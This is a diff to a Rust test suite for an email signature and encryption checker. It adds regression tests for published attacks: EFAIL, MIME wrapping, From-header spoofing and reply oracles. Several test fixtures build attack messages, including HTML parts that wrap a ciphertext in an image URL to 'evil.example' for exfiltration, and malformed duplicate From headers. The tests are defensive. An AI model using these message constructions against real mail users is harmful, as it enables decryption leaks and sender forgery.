@@ -13,7 +13,9 @@
 //!   Exfiltration Channels", USENIX Security 2018 (direct exfiltration with nested
 //!   ciphertexts, CBC malleability),
 //! - J. Müller et al., "Re: What's up Johnny? – Covert Content Attacks on Email End-to-End
-//!   Encryption", ACNS 2019 (hidden parts quoted in replies).
+//!   Encryption", ACNS 2019 (hidden parts quoted in replies, wrapped ciphertexts),
+//! - D. Davis, "Defective Sign & Encrypt in S/MIME, PKCS#7, MOSS, PEM, PGP, and XML", USENIX
+//!   2001 (surreptitious forwarding).
 //!
 //! Runs natively and in wasm under Node.
 
@@ -288,7 +290,7 @@ fn the_genuine_messages_are_valid() {
 
 // ---- MIME wrapping: signed and unsigned parts side by side ---------------------------------
 
-/// "Johnny, you are fired" §4 (MIME wrapping, partially signed messages): attacker text in a
+/// "Johnny, you are fired" (MIME attacks: wrapping, partially signed messages): attacker text in a
 /// `multipart/mixed` before, or after, a genuine validly signed part. The signature covers
 /// only that part, so the message is never `valid`, the scope is `partial`, and the report
 /// says the message is shown as unsigned.
@@ -336,8 +338,8 @@ fn fail_unsigned_text_beside_a_signed_part_is_partial() {
     }
 }
 
-/// "Johnny, you are fired" §4 (partially signed messages) on the encrypted channel: anyone
-/// with bob's public key can encrypt attacker text next to alice's genuine signed part, so
+/// "Johnny, you are fired" (MIME attacks: partially signed messages) on the encrypted channel:
+/// anyone with bob's public key can encrypt attacker text next to alice's genuine signed part, so
 /// decryption must not lend the signed part's verdict to the whole.
 #[test]
 fn fail_encrypted_wrapper_around_a_partly_signed_message_is_partial() {
@@ -408,7 +410,7 @@ fn preamble_and_epilogue_of_a_signed_message_are_not_shown() {
     }
 }
 
-/// "Johnny, you are fired" §4 (MIME wrapping): a genuine signed message forwarded as an
+/// "Johnny, you are fired" (MIME attacks: wrapping): a genuine signed message forwarded as an
 /// attachment (`message/rfc822`, or a `.eml` / `.p7m` file) inside an unsigned message is
 /// not a signature of that message: never `valid`, the signed message stays an attachment.
 #[test]
@@ -481,10 +483,11 @@ fn fail_signed_message_as_an_attachment_is_not_valid() {
     }
 }
 
-// ---- From tricks -------------------------------------------------------------------------------
+// ---- From tricks ------------------------------------------------------------------------
 
-/// "Johnny, you are fired" §5 (identity binding): alice's genuine signed message re-sent with
-/// another From. The signature is good but not the sender's: `sender_mismatch`.
+/// "Johnny, you are fired" (ID attacks: signer not bound to the sender): alice's genuine signed
+/// message re-sent with another From. The signature is good but not the sender's:
+/// `sender_mismatch`.
 #[test]
 fn fail_resent_with_another_from_is_sender_mismatch() {
     for std in BOTH {
@@ -514,7 +517,7 @@ fn fail_resent_with_another_from_is_sender_mismatch() {
     }
 }
 
-/// "Johnny, you are fired" §5.1 (display name spoofing): a display name that looks like
+/// "Johnny, you are fired" (ID attacks: display name spoofing): a display name that looks like
 /// alice's address around mallory's addr-spec binds to mallory, never `valid`. The reverse
 /// (alice's addr-spec with a misleading display name) is alice and stays `valid`.
 #[test]
@@ -579,8 +582,8 @@ fn display_name_tricks_bind_to_the_addr_spec() {
     }
 }
 
-/// "Johnny, you are fired" §5.1 (multiple From fields / mailboxes, RFC 5322 §3.6.2): no single
-/// sender to bind the signature to, so never `valid`, whichever one a client displays.
+/// "Johnny, you are fired" (ID attacks: multiple From fields / mailboxes, RFC 5322 §3.6.2): no
+/// single sender to bind the signature to, so never `valid`, whichever one a client displays.
 #[test]
 fn fail_two_from_fields_or_several_mailboxes_are_never_valid() {
     for std in BOTH {
@@ -591,10 +594,14 @@ fn fail_two_from_fields_or_several_mailboxes_are_never_valid() {
             };
             let raw = genuine(std, make, GENUINE);
             let a = std.alice;
-            let shapes: [&[String]; 6] = [
+            let shapes: [&[String]; 9] = [
                 &[format!("From: {a}"), format!("From: {MALLORY}")],
                 &[format!("From: {MALLORY}"), format!("From: {a}")],
                 &[format!("From: {a}"), format!("FROM: {MALLORY}")],
+                // Obsolete syntax and broken line ends other parsers may read differently.
+                &[format!("From: {a}"), format!("From : {MALLORY}")],
+                &[format!("From: {a}\r\n \r\nFrom: {MALLORY}")],
+                &[format!("From: {a}\rFrom: {MALLORY}")],
                 &[format!("From: {a}, {MALLORY}")],
                 &[format!("From: {MALLORY}, Alice <{a}>")],
                 &[format!("From: Friends: {a}, {MALLORY};")],
@@ -610,7 +617,7 @@ fn fail_two_from_fields_or_several_mailboxes_are_never_valid() {
     }
 }
 
-/// RFC 9788 §4 (header protection) against "Johnny, you are fired" §5: the From inside the
+/// RFC 9788 header protection against "Johnny, you are fired" (ID attacks): the From inside the
 /// signature differs from the outer From. Not `valid`, and `headers.fromDiffers` tells.
 /// Both directions: mallory replaces the outer From of alice's message, and alice signs a
 /// protected From of someone else while sending as herself (the display would show the
@@ -700,7 +707,7 @@ fn fail_protected_from_differing_from_outer_from_is_not_valid() {
 
 // ---- EFAIL and reply oracles: nested ciphertexts are never decrypted -------------------------
 
-/// EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018, §4): a genuine
+/// EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018): a genuine
 /// ciphertext for bob between two attacker HTML parts that would turn its plaintext into an
 /// image URL. The nested ciphertext is not decrypted (encryption `none`), the secret appears
 /// nowhere in the result, the ciphertext is an attachment and a warning says so.
@@ -748,21 +755,29 @@ fn fail_efail_direct_exfiltration_is_not_decrypted() {
                 "ciphertext second",
                 multipart("mixed", &[text_part("Hello"), ciphertext.clone()]),
             ),
+            (
+                "ciphertext as a file between html parts",
+                multipart(
+                    "mixed",
+                    &[
+                        html_part("<img src=\"http://evil.example/?"),
+                        ciphertext_file(std, &encrypted),
+                        html_part("\">"),
+                    ],
+                ),
+            ),
         ];
         if std.method == Method::Pgp {
             // The armored message itself in a text part (inline PGP), not first in the
             // multipart: never the message's own layer.
-            let (_, body) = split(&encrypted);
-            let start = body.find("-----BEGIN PGP MESSAGE-----").unwrap();
-            let end = body.find("-----END PGP MESSAGE-----").unwrap() + 25;
-            let armored = &body[start..end];
+            let armored = armored(&encrypted);
             shapes.push((
                 "inline armored text part",
                 multipart(
                     "mixed",
                     &[
                         html_part("<img src=\"http://evil.example/?"),
-                        text_part(armored),
+                        text_part(&armored),
                         html_part("\">"),
                     ],
                 ),
@@ -797,6 +812,32 @@ fn fail_efail_direct_exfiltration_is_not_decrypted() {
             );
         }
     }
+}
+
+/// The ciphertext of a genuine encrypted message as a file attachment: Outlook's
+/// `smime.p7m` as `application/octet-stream`, or an armored `.asc` file.
+fn ciphertext_file(std: &Std, encrypted: &[u8]) -> String {
+    match std.method {
+        Method::Smime => format!(
+            "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
+             Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\
+             Content-Transfer-Encoding: base64\r\n\r\n{}",
+            split(encrypted).1
+        ),
+        Method::Pgp => format!(
+            "Content-Type: application/octet-stream; name=\"message.asc\"\r\n\
+             Content-Disposition: attachment; filename=\"message.asc\"\r\n\r\n{}\r\n",
+            armored(encrypted)
+        ),
+    }
+}
+
+/// The armored OpenPGP message inside a PGP/MIME encrypted message.
+fn armored(encrypted: &[u8]) -> String {
+    let (_, body) = split(encrypted);
+    let start = body.find("-----BEGIN PGP MESSAGE-----").expect("armor");
+    let end = body.find("-----END PGP MESSAGE-----").expect("armor end") + 25;
+    body[start..end].to_string()
 }
 
 /// "Re: What's up Johnny?" (ACNS 2019, covert content in `multipart/alternative`): the
@@ -868,7 +909,7 @@ fn fail_hidden_alternatives_are_never_quoted() {
     }
 }
 
-// ---- layering and integrity ----------------------------------------------------------------------
+// ---- layering and integrity ------------------------------------------------------------
 
 /// Sign-then-encrypt (the signature inside, RFC 8551 §3.7 / RFC 3156 §6.2) and
 /// encrypt-then-sign (a `multipart/signed` around the ciphertext) both open: decrypted,
@@ -939,7 +980,7 @@ impl StartsWithAny for str {
     }
 }
 
-/// EFAIL §3 (CBC malleability): S/MIME EnvelopedData with AES-CBC has no integrity
+/// EFAIL (CBC malleability gadgets): S/MIME EnvelopedData with AES-CBC has no integrity
 /// protection, so without a valid signature inside it is `authenticated: false`; AES-GCM
 /// (AuthEnvelopedData) and OpenPGP with MDC are authenticated. An inner signature that is
 /// not bound to the sender does not authenticate the ciphertext either.
@@ -1002,8 +1043,50 @@ fn cbc_without_inner_signature_is_not_authenticated() {
     }
 }
 
-/// "Johnny, you are fired" §3 (CMS / OpenPGP signature checks): the signed body changed after
-/// a valid signature (one word, or a line added) is `invalid`, detached and inline.
+/// EFAIL (CBC malleability gadgets) against sign-then-encrypt: a changed AES-CBC block decrypts
+/// without complaint, but the signature inside no longer matches, so neither the signature
+/// nor the decrypted content is vouched for.
+#[test]
+fn fail_cbc_ciphertext_changed_under_an_inner_signature() {
+    let raw = genuine(
+        &SMIME,
+        Make {
+            sign: true,
+            encrypt: true,
+            protect_headers: false,
+        },
+        GENUINE,
+    );
+    let (head, body) = split(&raw);
+    let lines: Vec<&str> = body.lines().filter(|l| !l.is_empty()).collect();
+    for back in [3, 6, 10] {
+        // A base64 line near the end: inside the encrypted content, before the last block.
+        let target = lines[lines.len() - back];
+        let mut changed = target.chars().collect::<Vec<_>>();
+        changed[20] = if changed[20] == 'A' { 'B' } else { 'A' };
+        let changed: String = changed.into_iter().collect();
+        let tampered = format!("{head}\r\n\r\n{}", body.replacen(target, &changed, 1));
+        let o = open_as_bob(&SMIME, tampered.as_bytes());
+        let case = format!("line -{back}");
+        assert_not_valid(&o, &case);
+        assert_ne!(
+            o.encryption.authenticated,
+            Some(true),
+            "{case}: {:?}",
+            o.encryption
+        );
+        assert!(
+            o.encryption.state != EncryptionState::Decrypted
+                || o.signature.state == SignatureState::Invalid,
+            "{case}: {:?} {:?}",
+            o.encryption,
+            o.signature
+        );
+    }
+}
+
+/// "Johnny, you are fired" (CMS attacks and the signature checks behind them): the signed body
+/// changed after a valid signature (one word, or a line added) is `invalid`, detached and inline.
 #[test]
 fn fail_tampered_signed_body_is_invalid() {
     for std in BOTH {
@@ -1059,16 +1142,13 @@ fn fail_tampered_signed_body_is_invalid() {
 #[test]
 fn fail_inline_ciphertext_first_in_mixed_is_shown_alone() {
     let encrypted = genuine(&PGP, ENCRYPTED, &format!("The code is {SECRET}."));
-    let (_, body) = split(&encrypted);
-    let start = body.find("-----BEGIN PGP MESSAGE-----").unwrap();
-    let end = body.find("-----END PGP MESSAGE-----").unwrap() + 25;
-    let armored = &body[start..end];
+    let armored = armored(&encrypted);
     let raw = message(
         &format!("Mallory <{MALLORY}>"),
         &multipart(
             "mixed",
             &[
-                text_part(armored),
+                text_part(&armored),
                 html_part("<img src=\"http://evil.example/?"),
                 html_part(&format!("\"> {ATTACKER}")),
             ],
@@ -1091,9 +1171,9 @@ fn fail_inline_ciphertext_first_in_mixed_is_shown_alone() {
     );
 }
 
-/// RFC 9788 §4 with an encrypted, unsigned message: anyone can encrypt to bob with a protected
-/// From of alice while the outer From says mallory. Nothing is signed, and `fromDiffers` tells
-/// the page the shown From is not the one the message arrived with.
+/// RFC 9788 header protection with an encrypted, unsigned message: anyone can encrypt to bob with a
+/// protected From of alice while the outer From says mallory. Nothing is signed, and `fromDiffers`
+/// tells the page the shown From is not the one the message arrived with.
 #[test]
 fn fail_unsigned_protected_from_is_flagged() {
     for std in BOTH {
@@ -1171,7 +1251,7 @@ fn surreptitious_forwarding_shows_recipients_differ() {
     }
 }
 
-/// "Johnny, you are fired" §5 against header protection: a changed outer Subject does not
+/// "Johnny, you are fired" (ID attacks) against header protection: a changed outer Subject does not
 /// change what is shown, the signed Subject is.
 #[test]
 fn outer_subject_changes_do_not_reach_the_display() {
@@ -1198,10 +1278,10 @@ fn outer_subject_changes_do_not_reach_the_display() {
     }
 }
 
-/// EFAIL (§4) and "Re: What's up Johnny?" (§4, wrapping) behind a genuine outer layer: a
-/// captured ciphertext for bob inside a message that is itself validly signed, or itself
-/// encrypted to bob, is still nested and never decrypted; a second encryption layer directly
-/// inside the first is not opened either.
+/// EFAIL (direct exfiltration) and "Re: What's up Johnny?" (wrapping a captured ciphertext) behind
+/// a genuine outer layer: a captured ciphertext for bob inside a message that is itself validly
+/// signed, or itself encrypted to bob, is still nested and never decrypted; a second encryption
+/// layer directly inside the first is not opened either.
 #[test]
 fn fail_ciphertext_behind_another_layer_is_not_decrypted() {
     for std in BOTH {
@@ -1280,4 +1360,40 @@ fn an_attached_certificate_bundle_is_neither_signed_nor_encrypted() {
     assert!(o.warnings.is_empty(), "{:?}", o.warnings);
     assert_eq!(o.attachments.len(), 1);
     assert_eq!(o.attachments[0].filename, "smime.p7c");
+}
+
+/// "Re: What's up Johnny?" (reply oracle, resending): mallory re-sends alice's whole encrypted
+/// message to bob under his own From, hoping for a reply that quotes the plaintext. It
+/// decrypts (bob is a recipient), but the page is told: the signature inside is not the
+/// sender's (`sender_mismatch`), and with header protection `fromDiffers` names alice.
+#[test]
+fn fail_resent_encrypted_message_tells_who_wrote_it() {
+    for std in BOTH {
+        for (sign, hp) in [(true, false), (true, true), (false, true)] {
+            let raw = genuine(
+                std,
+                Make {
+                    sign,
+                    encrypt: true,
+                    protect_headers: hp,
+                },
+                GENUINE,
+            );
+            let resent = with_fields(&raw, "from", &[&format!("From: Mallory <{MALLORY}>")]);
+            let o = open_as_bob(std, &resent);
+            let case = format!("{:?} sign={sign} hp={hp}", std.method);
+            assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
+            if sign {
+                assert_eq!(o.signature.state, SignatureState::SenderMismatch, "{case}");
+            }
+            if hp {
+                assert!(o.headers.from_differs, "{case}");
+                assert_eq!(
+                    o.headers.from,
+                    Some(format!("Alice <{}>", std.alice)),
+                    "{case}"
+                );
+            }
+        }
+    }
 }
